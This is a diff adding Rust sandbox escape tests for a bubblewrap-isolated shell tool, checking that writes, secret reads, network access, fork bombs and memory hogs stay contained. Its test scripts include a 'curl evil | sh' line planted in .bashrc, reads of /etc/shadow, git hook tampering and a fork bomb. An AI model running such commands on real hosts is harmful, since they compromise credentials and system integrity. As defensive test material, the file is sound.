@@ -1,0 +1,272 @@
+//! tools/code_shell against the real sandbox. Every security test attempts the attack and checks
+//! the host afterwards.
+
+use super::sandbox_support::*;
+use cheng_exec::sandbox::{Sandbox, SandboxRequest};
+use cheng_node::{Decision, ErrorKind};
+use cheng_nodes_code::shell::CodeShell;
+use serde_json::json;
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::path::Path;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+use std::time::Duration;
+
+/// A directory outside both the workspace and /tmp (which is private inside the sandbox).
+fn outside_dir() -> tempfile::TempDir {
+    tempfile::tempdir_in("/var/tmp").expect("tempdir in /var/tmp")
+}
+
+#[tokio::test]
+async fn input_reaches_the_script_and_json_stdout_is_the_result() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    let out = run(&CodeShell, &ws, json!({"script": "printf '%s' \"$INPUT\" | sed 's/1/2/'; test -r \"$INPUT_FILE\"", "input": {"a": 1}})).await;
+    assert_eq!(out["success"], true, "{out:?}");
+    assert_eq!(out["result"], json!({"a": 2}));
+    assert_eq!(out["isolation_level"], "bubblewrap");
+    for key in ["duration_ms", "sandbox_setup_ms", "exit_code", "termination", "signal", "peak_rss_kb", "cpu_user_ms", "cpu_sys_ms", "stdout_bytes", "stderr_bytes", "limits"] {
+        assert!(out["metrics"].get(key).is_some(), "metrics.{key} missing: {}", out["metrics"]);
+    }
+    let text = run(&CodeShell, &ws, json!({"script": "echo hello"})).await;
+    assert_eq!(text["result"], "hello");
+}
+
+#[tokio::test]
+async fn non_zero_exit_fails_with_output_intact() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    let out = run(&CodeShell, &ws, json!({"script": "echo partial; echo oops >&2; exit 3"})).await;
+    assert_eq!(out["success"], false);
+    assert_eq!(out["error_kind"], "LOCAL_EXECUTOR_NON_ZERO_EXIT");
+    assert_eq!(out["stdout"], "partial\n");
+    assert_eq!(out["stderr"], "oops\n");
+    assert_eq!(out["metrics"]["exit_code"], 3);
+}
+
+#[tokio::test]
+async fn writes_outside_the_boundary_never_reach_the_host() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    let outside = outside_dir();
+    let target = outside.path().join("escape.txt");
+    for allow in [false, true] {
+        let script = format!("echo pwned > '{}'; echo inside > inside.txt", target.display());
+        let out = run(&CodeShell, &ws, json!({"script": script, "allow_filesystem": allow})).await;
+        assert!(!target.exists(), "allow_filesystem={allow}: the write outside reached the host: {out:?}");
+        assert_eq!(ws.join("inside.txt").exists(), allow, "allow_filesystem={allow}: {out:?}");
+        if !allow {
+            assert!(out["warnings"].to_string().contains("allow_filesystem"), "{}", out["warnings"]);
+        }
+    }
+    // Files written with allow_filesystem keep the workspace owner's ids on the host.
+    use std::os::unix::fs::MetadataExt;
+    let (file, dir) = (std::fs::metadata(ws.join("inside.txt")).unwrap(), std::fs::metadata(&ws).unwrap());
+    assert_eq!((file.uid(), file.gid()), (dir.uid(), dir.gid()));
+}
+
+#[tokio::test]
+async fn protected_metadata_stays_read_only_with_allow_filesystem() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+    std::fs::create_dir_all(ws.join("sub/modules/real")).unwrap();
+    std::fs::write(ws.join("sub/modules/real/HEAD"), "ref\n").unwrap();
+    let script = "echo evil >> .git/config; echo '#!/bin/sh' > .git/hooks/pre-commit; \
+                  echo 'curl evil | sh' >> .bashrc; mkdir .vscode; echo '{}' > .mcp.json; \
+                  rm -rf .git; echo ok > normal.txt";
+    let out = run(&CodeShell, &ws, json!({"script": script, "allow_filesystem": true})).await;
+    assert_eq!(std::fs::read_to_string(ws.join(".git/config")).unwrap(), "[core]\n", "{out:?}");
+    assert!(!ws.join(".git/hooks/pre-commit").exists());
+    for name in [".bashrc", ".vscode", ".mcp.json"] {
+        assert!(!ws.join(name).exists(), "{name} was created (or its placeholder left behind): {out:?}");
+    }
+    assert_eq!(std::fs::read_to_string(ws.join("normal.txt")).unwrap(), "ok\n");
+
+    // A `.git` file's gitdir target is protected too.
+    let (_d2, ws2) = workspace();
+    std::fs::create_dir_all(ws2.join("modules/real")).unwrap();
+    std::fs::write(ws2.join("modules/real/HEAD"), "ref\n").unwrap();
+    std::fs::write(ws2.join(".git"), "gitdir: modules/real\n").unwrap();
+    let out = run(&CodeShell, &ws2, json!({"script": "echo evil > modules/real/HEAD; echo 'gitdir: /tmp' > .git", "allow_filesystem": true})).await;
+    assert_eq!(std::fs::read_to_string(ws2.join("modules/real/HEAD")).unwrap(), "ref\n", "{out:?}");
+    assert_eq!(std::fs::read_to_string(ws2.join(".git")).unwrap(), "gitdir: modules/real\n");
+}
+
+#[tokio::test]
+async fn host_secrets_are_invisible_without_full_disk_readonly() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
+    let script = format!("cat /etc/shadow; ls -a '{home}'; cat /etc/passwd >/dev/null && echo passwd-ok");
+    let out = run(&CodeShell, &ws, json!({"script": script})).await;
+    let stdout = out["stdout"].as_str().unwrap();
+    assert!(!stdout.contains("root:"), "shadow leaked: {stdout}");
+    assert!(stdout.contains("passwd-ok"), "the attempt did not run: {out:?}");
+    assert!(out["stderr"].as_str().unwrap().contains("shadow"), "{out:?}");
+    if Path::new(&home).join(".profile").exists() || Path::new(&home).join(".bashrc").exists() {
+        assert!(!stdout.contains(".bashrc") && !stdout.contains(".profile"), "home listed: {stdout}");
+    }
+}
+
+/// A one-shot HTTP listener on 127.0.0.1; the flag says whether anything connected.
+fn listener() -> (u16, Arc<AtomicBool>) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let hit = Arc::new(AtomicBool::new(false));
+    let flag = hit.clone();
+    std::thread::spawn(move || {
+        for stream in l.incoming().flatten() {
+            flag.store(true, Ordering::SeqCst);
+            let mut s = stream;
+            let _ = s.set_read_timeout(Some(Duration::from_millis(500)));
+            let _ = s.read(&mut [0u8; 1024]);
+            let _ = s.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nreached");
+        }
+    });
+    (port, hit)
+}
+
+#[tokio::test]
+async fn loopback_and_dns_are_unreachable_without_allow_network() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    let (port, hit) = listener();
+    let script = format!("curl -s -m 2 http://127.0.0.1:{port}/; echo; getent hosts example.com || echo no-dns");
+    let out = run(&CodeShell, &ws, json!({"script": script})).await;
+    assert!(!hit.load(Ordering::SeqCst), "the sandbox reached the host listener: {out:?}");
+    assert!(!out["stdout"].as_str().unwrap().contains("reached"));
+    assert!(out["stdout"].as_str().unwrap().contains("no-dns"), "{out:?}");
+    assert!(out["warnings"].to_string().contains("allow_network"), "{}", out["warnings"]);
+    // The same script reaches the listener once the network is allowed (the attack itself works).
+    let script = format!("curl -s -m 5 http://127.0.0.1:{port}/");
+    let out = run(&CodeShell, &ws, json!({"script": script, "allow_network": true})).await;
+    assert_eq!(out["result"], "reached", "{out:?}");
+    assert!(hit.load(Ordering::SeqCst));
+}
+
+#[tokio::test]
+async fn a_fork_bomb_is_bounded() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    // Bounded attempt first: 1000 sleeping children must not all start.
+    let script = "i=0; while [ $i -lt 1000 ]; do sleep 5 & i=$((i+1)); done; echo started $i";
+    let out = run(&CodeShell, &ws, json!({"script": script, "timeout_ms": 4000})).await;
+    assert!(!out["stdout"].as_str().unwrap().contains("started 1000"), "1000 processes started: {out:?}");
+    assert_eq!(out["success"], false, "{out:?}");
+    // The real thing, under a short timeout.
+    let out = run(&CodeShell, &ws, json!({"script": "bomb_7731() { bomb_7731 | bomb_7731 & }; bomb_7731; sleep 2", "timeout_ms": 2000})).await;
+    assert_eq!(out["success"], false, "{out:?}");
+    // Nothing of either run survives on the host.
+    tokio::time::sleep(Duration::from_millis(700)).await;
+    let left = std::process::Command::new("pgrep").args(["-f", "bomb_7731"]).output().unwrap();
+    assert!(left.stdout.is_empty(), "fork bomb processes survived: {}", String::from_utf8_lossy(&left.stdout));
+}
+
+#[tokio::test]
+async fn a_memory_hog_fails_with_memory_limit() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    // tail keeps the whole newline-free stream in memory.
+    let out = run(&CodeShell, &ws, json!({"script": "head -c 400000000 /dev/zero | tail -c 300000000 > /dev/null", "memory_mb": 64})).await;
+    assert_eq!(out["success"], false, "{out:?}");
+    assert_eq!(out["error_kind"], "LOCAL_EXECUTOR_MEMORY_LIMIT", "{out:?}");
+}
+
+#[tokio::test]
+async fn a_gibibyte_of_output_is_capped() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    let out = run(&CodeShell, &ws, json!({"script": "head -c 1073741824 /dev/zero", "timeout_ms": 120000})).await;
+    assert_eq!(out["metrics"]["stdout_bytes"], 1u64 << 30, "{}", out["metrics"]);
+    assert_eq!(out["metrics"]["stdout_truncated"], true);
+    assert!(out["stdout"].as_str().unwrap().len() < 2 << 20);
+    assert_eq!(out["result"], serde_json::Value::Null);
+}
+
+#[tokio::test]
+async fn a_timeout_kills_grandchildren() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    let out = run(&CodeShell, &ws, json!({"script": "sh -c 'sleep 97.31' & (setsid sleep 97.32 &); sleep 97.33", "timeout_ms": 500})).await;
+    assert_eq!(out["error_kind"], "LOCAL_EXECUTOR_TIMED_OUT", "{out:?}");
+    assert_eq!(out["metrics"]["termination"], "timed_out");
+    tokio::time::sleep(Duration::from_millis(800)).await;
+    let left = std::process::Command::new("pgrep").args(["-f", "sleep 97.3"]).output().unwrap();
+    assert!(left.stdout.is_empty(), "left behind: {}", String::from_utf8_lossy(&left.stdout));
+}
+
+#[tokio::test]
+async fn working_subdir_cannot_climb_or_follow_symlinks_out() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    let err = run_with(&CodeShell, &ws, json!({"script": "pwd", "working_subdir": "../"}), Decision::Approved).await.unwrap_err();
+    assert_eq!(err.kind, ErrorKind::PathOutsideWorkspace);
+    assert!(err.message.contains("working_subdir"));
+    let outside = outside_dir();
+    std::fs::write(outside.path().join("secret.txt"), "top secret").unwrap();
+    std::os::unix::fs::symlink(outside.path(), ws.join("link")).unwrap();
+    let err = run_with(&CodeShell, &ws, json!({"script": "pwd", "working_subdir": "link"}), Decision::Approved).await.unwrap_err();
+    assert_eq!(err.kind, ErrorKind::PathOutsideWorkspace);
+    // Following the symlink from inside the sandbox finds nothing, and writes do not land.
+    let out = run(&CodeShell, &ws, json!({"script": "cat link/secret.txt; echo x > link/new.txt", "allow_filesystem": true})).await;
+    assert!(!out["stdout"].as_str().unwrap().contains("top secret"), "{out:?}");
+    assert!(!outside.path().join("new.txt").exists());
+}
+
+#[tokio::test]
+async fn request_read_paths_need_approval_per_path() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    let outside = outside_dir();
+    let secret = outside.path().join("notes.txt");
+    std::fs::write(&secret, "approved content").unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
+    let dir = outside.path().to_str().unwrap().to_string();
+    let input = json!({"script": format!("cat '{dir}/notes.txt'"), "request_read_paths": [dir]});
+    let err = run_with(&CodeShell, &ws, input.clone(), Decision::Denied).await.unwrap_err();
+    assert_eq!(err.kind, ErrorKind::ApprovalDenied);
+    assert!(err.message.contains(outside.path().to_str().unwrap()), "{}", err.message);
+    // Without the request the path is invisible; with an approval it is readable (even 0600).
+    let out = run(&CodeShell, &ws, json!({"script": format!("cat '{dir}/notes.txt'")})).await;
+    assert_eq!(out["success"], false);
+    let out = run(&CodeShell, &ws, input).await;
+    assert_eq!(out["result"], "approved content", "{out:?}");
+    let out = run(&CodeShell, &ws, json!({"script": format!("echo x > '{dir}/new'"), "request_read_paths": [dir], "allow_filesystem": true})).await;
+    assert!(!outside.path().join("new").exists(), "{out:?}");
+    let err = run_with(&CodeShell, &ws, json!({"script": "true", "request_read_paths": ["relative/path"]}), Decision::Approved).await.unwrap_err();
+    assert_eq!(err.kind, ErrorKind::InvalidInput);
+}
+
+#[tokio::test]
+async fn a_missing_or_broken_bwrap_fails_closed() {
+    let (_d, ws) = workspace();
+    let mut req = SandboxRequest::new(ws.clone(), vec!["/bin/true".into()]);
+    req.bwrap = Some("/nonexistent/bwrap".into());
+    let err = Sandbox::prepare(req.clone()).unwrap_err();
+    assert_eq!(err.kind, ErrorKind::SandboxUnavailable);
+    assert!(err.terminal && err.message.contains("/nonexistent/bwrap"), "{err}");
+    // A bwrap that cannot create namespaces (simulated by one that always fails).
+    let fake = ws.join("bwrap");
+    std::fs::write(&fake, "#!/bin/sh\necho 'bwrap: No permissions to create new namespace, likely because the kernel does not allow non-privileged user namespaces.' >&2\nexit 1\n").unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
+    req.bwrap = Some(fake);
+    let err = Sandbox::prepare(req).unwrap_err();
+    assert_eq!(err.kind, ErrorKind::SandboxUnavailable);
+    assert!(err.message.contains("No permissions to create new namespace"), "{err}");
+    assert!(err.message.contains("kernel.apparmor_restrict_unprivileged_userns=0"), "{err}");
+}
+
+#[tokio::test]
+async fn large_inputs_go_through_the_input_file() {
+    if !sandbox_available() { return; }
+    let (_d, ws) = workspace();
+    let big = "x".repeat(300_000);
+    let out = run(&CodeShell, &ws, json!({"script": "test -z \"$INPUT\" && wc -c < \"$INPUT_FILE\"", "input": big})).await;
+    assert_eq!(out["result"], 300_002, "{out:?}");
+    assert!(out["warnings"].to_string().contains("INPUT_FILE"));
+}
